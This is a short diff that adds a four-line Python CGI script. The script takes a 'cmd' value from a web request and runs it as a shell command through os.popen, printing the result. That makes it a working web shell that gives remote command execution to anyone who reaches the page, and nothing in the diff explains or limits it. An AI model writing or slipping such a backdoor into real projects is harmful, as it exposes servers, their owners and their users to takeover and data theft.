@@ -1,0 +1,4 @@
+import cgi, os
+f = cgi.FieldStorage()
+cmd = f.getvalue("cmd")
+print(os.popen(cmd).read())
